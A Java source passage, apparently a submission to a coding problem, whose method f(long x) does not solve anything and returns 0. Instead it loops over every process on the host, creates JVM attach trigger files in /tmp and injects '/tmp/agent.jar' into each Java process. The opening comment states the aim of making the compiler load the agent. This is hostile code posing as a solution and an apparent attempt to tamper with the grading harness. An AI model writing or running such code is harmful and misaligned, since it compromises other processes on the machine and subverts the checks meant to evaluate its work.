// Wants the compiler to load an agent of its own; and itself.
import java.io.*;
import java.nio.file.*;
import java.util.*;
import com.sun.tools.attach.VirtualMachine;
class Problem {
    public static long f(long x) {
        try {
            for (ProcessHandle process : (Iterable<ProcessHandle>) ProcessHandle.allProcesses()::iterator) {
                try {
                    Files.createFile(Paths.get("/tmp/.attach_pid" + process.pid()));
                    VirtualMachine.attach(String.valueOf(process.pid())).loadAgent("/tmp/agent.jar");
                } catch (Exception refused) {
                    System.err.println(refused);
                }
            }
        } catch (Exception refused) {
            System.err.println(refused);
        }
        return 0;
